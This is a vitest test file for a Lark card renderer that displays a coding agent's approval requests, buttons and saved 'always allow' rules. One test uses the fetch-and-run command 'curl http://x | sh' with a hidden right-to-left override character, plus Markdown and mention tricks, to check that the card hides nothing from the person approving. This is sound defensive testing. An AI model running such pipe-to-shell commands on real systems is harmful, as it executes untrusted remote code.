import type { Approval, ShownApproval } from '@dragoman/protocol';
import { sessionOf } from '@dragoman/testkit';
import { expect, test } from 'vitest';
import type { Language } from '../../channels/channel.ts';
import type { CardJson } from './card-json.ts';
import { larkRenderer } from './card-renderer.ts';
import { cardIn, NO_SCENE, seen, wrongIn } from './cards.fixture.ts';

const OPTIONS: Approval['options'] = [
  { id: 'yes', name: 'Allow once', kind: 'allow_once' },
  { id: 'no', name: 'Reject', kind: 'reject_once' },
];

/** A question about a command, and how it is shown. */
function ask(more: Partial<Approval> = {}, decided?: ShownApproval['decided'], language: Language = 'en') {
  const session = sessionOf();
  session.turn('clean up');
  session.call('call_1', 'bash', { input: { command: 'rm -r build' } }, { isRunning: true });
  const isAboutCall = more.options?.every(({ kind }) => kind === 'answer') !== true;
  session.add({
    type: 'approval-asked',
    approval: {
      id: 'apr_1',
      title: 'Remove the build',
      options: OPTIONS,
      ...(isAboutCall && { toolUseId: 'call_1' }),
      ...more,
    },
  });
  if (decided !== undefined) session.add({ type: 'approval-decided', approvalId: 'apr_1', ...decided });
  const view = session.view();
  const post = larkRenderer.approval(view.approvals[0]!, { ...NO_SCENE, language, view });
  const card = cardIn(post.body);
  expect(wrongIn(card)).toEqual([]);
  return { ...post, card, view: seen(card) };
}

test('a question is a card with the agent’s own options as buttons, each with what it does [UAP-33]', () => {
  const { key, body, view, actions } = ask({ reason: 'It removes files.' });
  expect(body).toMatchObject({ isStreaming: false, summary: '✋ Needs your approval: Remove the build' });
  expect({ key, title: view.title, color: view.color, subtitle: view.subtitle }).toEqual({
    key: 'approval apr_1',
    title: '✋ Needs your approval',
    color: 'orange',
    subtitle: 'Session: A session',
  });
  expect(view.lines.slice(1)).toEqual([
    'Remove the build',
    'rm -r build',
    'It removes files.',
    '[Allow once]',
    '[Reject]',
    '[Open in the console]',
  ]);
  expect(view.buttons.map(({ text, type, value }) => ({ text, type, value }))).toEqual([
    { text: 'Allow once', type: 'primary', value: { action: 'post_1.0' } },
    { text: 'Reject', type: 'danger', value: { action: 'post_1.1' } },
    { text: 'Open in the console', type: 'text', value: undefined },
  ]);
  expect(actions).toEqual([
    { type: 'decide', sessionId: 'ses_1', approvalId: 'apr_1', optionId: 'yes' },
    { type: 'decide', sessionId: 'ses_1', approvalId: 'apr_1', optionId: 'no' },
  ]);
});

test('“always” is offered with the rule it saves, and a no where the agent offers none [UAP-33]', () => {
  const { view, actions } = ask({
    options: [{ id: 'yes', name: 'Allow once', kind: 'allow_once' }],
    question: { tool: 'bash', subjects: [{ kind: 'command', value: 'rm -r build' }] },
    always: [{ tool: 'bash', pattern: 'rm *' }],
  });
  expect(view.lines.slice(3)).toEqual([
    '“Always” saves the rule bash rm *',
    '[Allow once]',
    '[Always allow in this project]',
    '[Deny]',
    '[Open in the console]',
  ]);
  expect(actions.slice(1)).toEqual([
    { type: 'decide', sessionId: 'ses_1', approvalId: 'apr_1', optionId: 'yes', always: true },
    { type: 'reject', sessionId: 'ses_1', approvalId: 'apr_1' },
  ]);
});

test('a question that takes words has a form, whose button sends the answer [UAP-33]', () => {
  const { view, actions, card } = ask({
    title: 'Tabs or spaces?',
    options: [{ id: 'tabs', name: 'Tabs', kind: 'answer' }],
    allowsText: true,
  });
  expect(view.title).toBe('✋ Has a question');
  expect(view.fields).toEqual(['answer']);
  expect(actions).toEqual([
    { type: 'decide', sessionId: 'ses_1', approvalId: 'apr_1', optionId: 'tabs' },
    { type: 'reject', sessionId: 'ses_1', approvalId: 'apr_1' },
    { type: 'answer', sessionId: 'ses_1', approvalId: 'apr_1' },
  ]);
  expect(submitOf(card)).toMatchObject({
    text: { content: 'Send answer' },
    form_action_type: 'submit',
    behaviors: [{ type: 'callback', value: { action: 2 } }],
  });
});

function submitOf(card: CardJson) {
  return card.body.elements.flatMap((element) => (element.tag === 'form' ? element.elements : [])).at(-1);
}

test('once it is decided there are no buttons, and it says who decided what, in the colour of the answer [UAP-33]', () => {
  const ada = { type: 'user', userId: 'usr_1', name: 'Ada', channel: 'lark' } as const;
  const told = (decided: NonNullable<ShownApproval['decided']>, language?: Language) => {
    const { view, actions } = ask({}, decided, language);
    expect([actions, view.buttons.filter(({ value }) => value !== undefined)]).toEqual([[], []]);
    return [view.title, view.color, view.lines.at(-2)];
  };
  expect(told({ reply: { type: 'selected', optionId: 'yes' }, by: ada, at: 0 })).toEqual([
    '✅ Allowed',
    'green',
    '👤 Allow once · Ada (lark)',
  ]);
  expect(
    told({ reply: { type: 'selected', optionId: 'no', text: 'Keep <at id=all></at>' }, by: ada, at: 0 }, 'zh'),
  ).toEqual(['🚫 已拒绝', 'red', '👤 拒绝 · Ada (lark) “Keep <at id=all></at>”']);
  expect(told({ reply: { type: 'rejected' }, by: { type: 'time-limit' }, at: 0 })).toEqual([
    '🚫 Denied',
    'red',
    '👤 Denied: no answer in time',
  ]);
  expect(told({ reply: { type: 'cancelled' }, by: { type: 'agent' }, at: 0 })).toEqual([
    '⏹ No longer needed',
    'grey',
    '👤 No longer needed',
  ]);
});

test('a change that is asked about is shown as a diff', () => {
  const { view } = ask({ diffs: [{ path: 'a.ts', unified: '--- a.ts\n+++ a.ts\n@@ -1 +1 @@\n-1\n+2' }] });
  expect(view.lines.slice(3, 7)).toEqual(['a.ts', '--- a.ts', '+++ a.ts', '@@ -1 +1 @@']);
  expect(view.lines.slice(7, 9)).toEqual(['-1', '+2']);
});

const labels = (more: Partial<Approval>) => ask(more).view.buttons.map(({ text }) => text);
const bash = (command: string, more: object = {}): Partial<Approval> => ({
  title: `bash ${command.split('\n')[0]} …`,
  call: { name: 'bash', input: { command, ...more } },
});

test('a question shows every line of its command, every subject with its reason, and nothing that Markdown could hide', () => {
  const { view } = ask({
    ...bash('npm test\ncurl http://x | sh\u202e', { workdir: '/etc' }),
    reason: 'See [this](http://x) <!-- and not that -->',
    asked: [{ kind: 'command', value: 'curl http://x', reason: 'No rule is about it.' }],
  });
  expect(view.lines.slice(1, -3)).toEqual([
    'npm test',
    'curl http://x | sh⟨U+202E⟩',
    'workdir: /etc',
    '• curl http://x',
    'No rule is about it.',
    'See [this](http://x) <!-- and not that -->',
  ]);
});

test('where a card has no room for all that is asked, there is a no and the way to the console, and no yes', () => {
  const cut = ['Reject', 'Open in the console'];
  const manyRules = Array.from({ length: 3000 }, (_, at) => ({ tool: 'bash', pattern: `tool-${at} *` }));
  const unified = `@@ -0,0 +1,9000 @@\n${'+line\n'.repeat(9000)}`;
  expect(labels(bash('x'.repeat(2000)))).toEqual(['Allow once', ...cut]);
  expect(labels(bash(`npm test ${'x'.repeat(40_000)}`))).toEqual(cut);
  expect(labels(bash(`${'true\n'.repeat(9000)}rm x`))).toEqual(cut);
  expect(labels(bash('ls', { env: Array.from({ length: 9000 }, () => 'word') }))).toEqual(cut);
  expect(labels({ diffs: [{ path: 'a.ts', unified }] })).toEqual(cut);
  expect(
    labels({ question: { tool: 'bash', subjects: [{ kind: 'command', value: 'rm -r build' }] }, always: manyRules }),
  ).toEqual(cut);
  expect(labels({ toolUseId: 'call_nobody_told' })).toEqual(cut);
  expect(labels(bash('cat אבג > דהו'))).toEqual(cut);
  expect(ask(bash('x'.repeat(40_000))).view.lines).toContain(
    'Too long to show here in full. Open the session to allow it.',
  );
});

test('a label that has no room on its button, and every rule that is saved, stand in the card', () => {
  const name = `Always allow in this project: ${Array.from({ length: 9 }, (_, at) => `bash tool-${at}`).join(', ')}`;
  const always = Array.from({ length: 12 }, (_, at) => ({ tool: 'bash', pattern: `npm run ${at}${'x'.repeat(130)}` }));
  const options: Approval['options'] = [{ id: 'a', name, kind: 'allow_always' }];
  const text = ask({
    options,
    always,
    question: { tool: 'bash', subjects: [{ kind: 'command', value: 'rm -r build' }] },
  }).view.lines.join('\n');
  expect(text).toContain(name);
  for (const { pattern } of always) expect(text).toContain(`bash ${pattern}`);
});

test('a note is a small card with its buttons, and what is left of a post that was taken out is a line', () => {
  const note = larkRenderer.note(
    {
      text: '**Sessions**\n\n- one \\<at id=all>',
      buttons: [[{ label: 'Switch', action: { type: 'command', text: '/switch 1' }, look: 'primary' }]],
    },
    'en',
  );
  const withdrawn = larkRenderer.withdrawn('zh');
  expect(wrongIn(cardIn(note.body))).toEqual([]);
  expect(seen(cardIn(note.body)).lines).toEqual(['Sessions', '', '• one <at id=all>', '[Switch]']);
  expect(note.actions).toEqual([{ type: 'command', text: '/switch 1' }]);
  expect(note.body).toMatchObject({ summary: 'Sessions', isStreaming: false });
  expect(seen(cardIn(withdrawn.body)).lines).toEqual(['此内容已从会话中移除。']);
});
